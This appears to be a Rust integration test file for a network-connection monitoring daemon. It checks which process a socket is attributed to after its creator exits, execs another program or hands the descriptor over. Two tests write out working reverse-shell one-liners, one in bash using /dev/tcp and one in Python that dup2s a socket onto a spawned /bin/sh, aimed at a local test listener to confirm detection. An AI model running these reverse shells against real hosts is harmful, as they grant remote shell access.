@@ -1,0 +1,338 @@
+//! Who has a socket now: after the process that began it has ended, executed another program, or handed it over. The oracles are
+//! `ss -p` and `/proc`.
+
+use std::{
+    fs,
+    io::{IoSlice, IoSliceMut, Read as _, Write as _},
+    net::{SocketAddr, TcpListener, TcpStream, UdpSocket},
+    os::{
+        fd::{AsRawFd as _, FromRawFd as _, OwnedFd, RawFd},
+        unix::net::UnixStream,
+    },
+    process::{Command, Stdio},
+    thread,
+};
+
+use netconn_tests::{Daemon, Forked, Netns, long, moment, pause, step, until};
+use nix::{
+    cmsg_space,
+    sys::{
+        signal::{Signal, kill},
+        socket::{ControlMessage, ControlMessageOwned, MsgFlags, recvmsg, sendmsg},
+    },
+    unistd::Pid,
+};
+use serde_json::Value;
+
+/// Returns the processes that have the sockets with a local port open, by `ss -tuanp`.
+fn holders(namespace: &Netns, port: u16) -> Vec<(u32, String)> {
+    let text = namespace.exec("ss", &["-tuanpH"]);
+    let is_local = |line: &&str| line.split_whitespace().nth(4).is_some_and(|end| end.ends_with(&format!(":{port}")));
+    let mut found: Vec<(u32, String)> = text
+        .lines()
+        .filter(is_local)
+        // users:(("sh",pid=12,fd=0),("sh",pid=12,fd=1))
+        .flat_map(|line| line.split("(\"").skip(1))
+        .map(|user| {
+            let (name, rest) = user.split_once("\",pid=").unwrap();
+            (rest.split(',').next().unwrap().parse().unwrap(), name.to_owned())
+        })
+        .collect();
+    found.sort();
+    found.dedup();
+    found
+}
+
+/// Returns the daemon's row of the socket with a local port, which must be the only one.
+fn row(daemon: &Daemon, namespace: &Netns, port: u16) -> Value {
+    let rows = daemon.list(namespace.inode);
+    let mut found = rows.iter().filter(|row| row["local_port"] == port);
+    let row = found.next().unwrap_or_else(|| panic!("port {port}: {rows:#?}")).clone();
+    assert!(found.next().is_none(), "port {port}: {rows:#?}");
+    row
+}
+
+/// Waits until the row of a socket has the one process that `ss` shows, which began as another one, and returns the row. Checks that
+/// filters find it by the process that has it.
+fn becomes_holder(daemon: &Daemon, namespace: &Netns, port: u16, originator: (u32, &str)) -> Value {
+    let found = holders(namespace, port);
+    let [(pid, name)] = &found[..] else { panic!("port {port}: {found:?}") };
+    let now = || row(daemon, namespace, port);
+    until(
+        15_000,
+        || format!("{pid} ({name}): {:#}", now()),
+        || now()["pid"] == *pid && now()["process_name"] == **name,
+    );
+    let row = now();
+    assert_eq!((&row["originator_pid"], &row["originator_process_name"]), (&originator.0.into(), &originator.1.into()));
+    let count = |filter: &str| {
+        let text = format!("/v1/connections?format=ndjson&namespace={}&{filter}", namespace.inode);
+        daemon.rows(&text).iter().filter(|row| row["local_port"] == port).count()
+    };
+    assert_eq!((count(&format!("pid={pid}")), count(&format!("process={name}"))), (1, 1));
+    if originator.0 != *pid {
+        assert_eq!(count(&format!("pid={}", originator.0)), 0);
+    }
+    row
+}
+
+/// Reads a process id that a child has written.
+fn read_pid(channel: &mut UnixStream) -> u32 {
+    let mut pid = [0; 4];
+    channel.read_exact(&mut pid).unwrap();
+    u32::from_ne_bytes(pid)
+}
+
+/// Ends a process that outlives the child of the test which began it.
+fn end(pid: u32) {
+    let _ = kill(Pid::from_raw(i32::try_from(pid).unwrap()), Signal::SIGKILL);
+}
+
+/// Begins sockets in a process that ends, and leaves them to its child. Returns both processes: the first has ended.
+fn left_behind<T>(begin: impl FnOnce() -> T) -> (u32, u32) {
+    let mut first = Forked::new(|mut channel| {
+        let held = begin();
+        let child = Forked::new(|_| {
+            let _held = &held;
+            // It lives until the test ends it; the time only limits its life if the test fails before.
+            thread::sleep(long(60_000));
+        });
+        channel.write_all(&child.pid.to_ne_bytes()).unwrap();
+        pause(&mut channel);
+        // Dropping it would end the child.
+        std::mem::forget(child);
+    });
+    let second = read_pid(&mut first.channel);
+    // Both processes of a row are known before the first ends.
+    moment();
+    first.go();
+    let pid = first.pid;
+    first.join();
+    (pid, second)
+}
+
+/// Returns the name that a child of this thread has.
+fn own_name() -> String {
+    fs::read_to_string("/proc/thread-self/comm").unwrap().trim().to_owned()
+}
+
+fn port_of(address: SocketAddr) -> u16 {
+    address.port()
+}
+
+#[test]
+fn sockets_of_a_process_that_has_ended_are_of_whom_has_them_open() {
+    let namespace = Netns::new();
+    let daemon = Daemon::start();
+    let (name, pids, ports) = namespace.run(|| {
+        let name = own_name();
+        let server = TcpListener::bind("127.0.0.1:0").unwrap();
+        let echo = UdpSocket::bind("127.0.0.1:0").unwrap();
+        let (to, udp_to) = (server.local_addr().unwrap(), echo.local_addr().unwrap());
+        let ports = [40_001, 40_002, 40_003, 40_004];
+        let (first, second) = left_behind(|| {
+            let connection = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
+            connection.bind(&SocketAddr::from(([127, 0, 0, 1], ports[0])).into()).unwrap();
+            connection.connect(&to.into()).unwrap();
+            let listener = TcpListener::bind(("127.0.0.1", ports[1])).unwrap();
+            // One has a flow, the other is bound only.
+            let flow = UdpSocket::bind(("127.0.0.1", ports[2])).unwrap();
+            flow.connect(udp_to).unwrap();
+            flow.send(&[1]).unwrap();
+            let bound = UdpSocket::bind(("127.0.0.1", ports[3])).unwrap();
+            (connection, listener, flow, bound)
+        });
+        let _accepted = server.accept().unwrap();
+        for port in ports {
+            let row = becomes_holder(&daemon, &namespace, port, (first, &name));
+            assert_eq!((&row["pid"], &row["attribution"]), (&second.into(), &"scan".into()), "{row:#}");
+        }
+        // Everything is found by whom has it, the first process has nothing, and the next one finds who has it after a restart.
+        (name, (first, second), ports)
+    });
+    let (first, second) = pids;
+    let daemon = daemon.end().start();
+    // An outgoing connection tells who began it: the kernel keeps that.
+    let row = becomes_holder(&daemon, &namespace, ports[0], (first, &name));
+    assert_eq!(row["attribution"], "scan");
+    for port in &ports[1..] {
+        let now = || self::row(&daemon, &namespace, *port);
+        until(15_000, || format!("{second}: {:#}", now()), || now()["pid"] == second);
+    }
+    end(second);
+    moment();
+    let events = daemon.stop().within(&namespace);
+    let of = |kind: &str, port: u16| events.of(kind).with("local.port.number", port).one().clone();
+    // Events name who connected.
+    let close = of("IP Close", ports[0]);
+    assert_eq!((&close["src.process.pid"], &close["src.process.attribution"]), (&first.into(), &"connect".into()));
+    // Two: the second daemon found the connection and told it as one that was there before.
+    let connects = events.of("IP Connect").with("local.port.number", ports[0]);
+    assert_eq!(connects.with("src.process.pid", first).len(), connects.len(), "{connects:#?}");
+    assert_eq!(of("IP Listen End", ports[1])["src.process.pid"], second);
+}
+
+#[test]
+fn a_child_that_goes_on_sending_has_its_flows() {
+    let namespace = Netns::new();
+    let daemon = Daemon::start();
+    let (first, second) = namespace.run(|| {
+        let (here, there) = (UdpSocket::bind("127.0.0.1:0").unwrap(), UdpSocket::bind("127.0.0.1:0").unwrap());
+        let to = [&here, &there].map(|socket| socket.local_addr().unwrap());
+        let (mut go, mut gone) = UnixStream::pair().unwrap();
+        let mut first = Forked::new(|mut channel| {
+            let socket = UdpSocket::bind("127.0.0.1:40005").unwrap();
+            socket.send_to(&[1], to[0]).unwrap();
+            let child = Forked::new(|_| {
+                gone.read_exact(&mut [0]).unwrap();
+                socket.send_to(&[2], to[1]).unwrap();
+                thread::sleep(long(60_000));
+            });
+            channel.write_all(&child.pid.to_ne_bytes()).unwrap();
+            pause(&mut channel);
+            std::mem::forget(child);
+        });
+        let second = read_pid(&mut first.channel);
+        moment();
+        first.go();
+        let pid = first.pid;
+        first.join();
+        let rows = || daemon.list(namespace.inode);
+        until(
+            15_000,
+            || format!("{:#?}", rows()),
+            || {
+                let rows = rows();
+                let mut own = rows.iter().filter(|row| row["local_port"] == 40_005);
+                own.clone().count() >= 2 && own.all(|row| row["pid"] == second)
+            },
+        );
+        go.write_all(&[0]).unwrap();
+        there.recv(&mut [0]).unwrap();
+        (pid, second)
+    });
+    moment();
+    end(second);
+    moment();
+    let events = daemon.stop().within(&namespace).of("IP Connect").with("local.port.number", 40_005);
+    let mut pids: Vec<u64> = events
+        .with("event.network.direction", "OUTGOING")
+        .values("src.process.pid")
+        .iter()
+        .filter_map(Value::as_u64)
+        .collect();
+    pids.sort_unstable();
+    let mut expected = [u64::from(first), u64::from(second)];
+    expected.sort_unstable();
+    assert_eq!(pids, expected, "{events:#?}");
+}
+
+#[test]
+fn a_descriptor_that_was_passed_on_is_of_whom_received_it() {
+    let namespace = Netns::new();
+    let daemon = Daemon::shared();
+    namespace.run(|| {
+        let name = own_name();
+        let server = TcpListener::bind("127.0.0.1:0").unwrap();
+        let to = server.local_addr().unwrap();
+        let (here, there) = UnixStream::pair().unwrap();
+        let mut receiver = Forked::new(|mut channel| {
+            let _held = received(&there);
+            step(&mut channel);
+            pause(&mut channel);
+        });
+        let mut sender = Forked::new(|mut channel| {
+            let stream = TcpStream::connect(to).unwrap();
+            channel.write_all(&port_of(stream.local_addr().unwrap()).to_ne_bytes()).unwrap();
+            hand_over(&here, &stream);
+            pause(&mut channel);
+        });
+        let mut port = [0; 2];
+        sender.channel.read_exact(&mut port).unwrap();
+        receiver.wait();
+        moment();
+        sender.go();
+        let pid = sender.pid;
+        sender.join();
+        let row = becomes_holder(daemon, &namespace, u16::from_ne_bytes(port), (pid, &name));
+        assert_eq!(row["pid"], receiver.pid);
+        receiver.go();
+        receiver.join();
+    });
+}
+
+#[test]
+fn a_process_that_executes_another_program_keeps_its_sockets() {
+    let namespace = Netns::new();
+    let daemon = Daemon::shared();
+    let (server, to) = namespace.run(|| {
+        let server = TcpListener::bind("127.0.0.1:0").unwrap();
+        let to = port_of(server.local_addr().unwrap());
+        (server, to)
+    });
+    // A reverse shell in one line, as an attacker types it.
+    let script = format!("exec 3<>/dev/tcp/127.0.0.1/{to}; exec head -c 1 - 2>/dev/null");
+    let mut process = namespace.command("bash", &["-c", &script]).stdin(Stdio::piped()).spawn().unwrap();
+    let (accepted, from) = server.accept().unwrap();
+    let row = becomes_holder(daemon, &namespace, port_of(from), (process.id(), "bash"));
+    assert_eq!(row["pid"], process.id());
+    let executable = fs::read_link(format!("/proc/{}/exe", process.id())).unwrap();
+    assert_eq!(row["executable"].as_str(), executable.to_str());
+    assert_eq!(row["command_line"], "head -c 1 -");
+    assert!(row["originator_executable"].as_str().unwrap().ends_with("/bash"), "{row:#}");
+    assert!(row["originator_command_line"].as_str().unwrap().contains("/dev/tcp/"), "{row:#}");
+    process.stdin.take().unwrap().write_all(b"x").unwrap();
+    process.wait().unwrap();
+    drop(accepted);
+    moment();
+    let close =
+        daemon.events().within(&namespace).of("IP Close").with("local.port.number", port_of(from)).one().clone();
+    assert_eq!(close["src.process.name"], "bash", "events name who connected");
+}
+
+#[test]
+fn a_reverse_shell_is_of_the_shell_not_of_the_script_that_has_ended() {
+    if Command::new("python3").arg("-V").output().is_err() {
+        eprintln!("skipped: there is no python3");
+        return;
+    }
+    let namespace = Netns::new();
+    let daemon = Daemon::shared();
+    let (server, to) = namespace.run(|| {
+        let server = TcpListener::bind("127.0.0.1:0").unwrap();
+        let to = port_of(server.local_addr().unwrap());
+        (server, to)
+    });
+    let script = format!(
+        "import os, socket, subprocess, time\ns = socket.create_connection(('127.0.0.1', {to}))\n\
+         for fd in range(3): os.dup2(s.fileno(), fd)\nsubprocess.Popen(['/bin/sh'])\ntime.sleep(0.2)\n"
+    );
+    let mut python = namespace.command("python3", &["-c", &script]).stdin(Stdio::null()).spawn().unwrap();
+    let pid = python.id();
+    let (mut shell, from) = server.accept().unwrap();
+    python.wait().unwrap();
+    let name = || row(daemon, &namespace, port_of(from))["originator_process_name"].clone();
+    let found = holders(&namespace, port_of(from));
+    assert_eq!(found.len(), 1, "{found:?}");
+    until(15_000, || format!("{found:?}"), || name() != Value::Null);
+    let python_name = name().as_str().unwrap().to_owned();
+    assert!(python_name.starts_with("python"), "{python_name}");
+    let row = becomes_holder(daemon, &namespace, port_of(from), (pid, &python_name));
+    assert!(["sh", "dash", "bash"].contains(&row["process_name"].as_str().unwrap()), "{row:#}");
+    shell.write_all(b"exit\n").unwrap();
+}
+
+fn hand_over(channel: &UnixStream, stream: &TcpStream) {
+    let descriptors = [stream.as_raw_fd()];
+    let message = [ControlMessage::ScmRights(&descriptors)];
+    sendmsg::<()>(channel.as_raw_fd(), &[IoSlice::new(&[0])], &message, MsgFlags::empty(), None).unwrap();
+}
+
+fn received(channel: &UnixStream) -> OwnedFd {
+    let (mut byte, mut space) = ([0], cmsg_space!([RawFd; 1]));
+    let mut parts = [IoSliceMut::new(&mut byte)];
+    let message = recvmsg::<()>(channel.as_raw_fd(), &mut parts, Some(&mut space), MsgFlags::empty()).unwrap();
+    let Some(ControlMessageOwned::ScmRights(descriptors)) = message.cmsgs().unwrap().next() else { panic!("none") };
+    // SAFETY: the kernel has just made this descriptor for this process, and it has no other owner.
+    unsafe { OwnedFd::from_raw_fd(descriptors[0]) }
+}
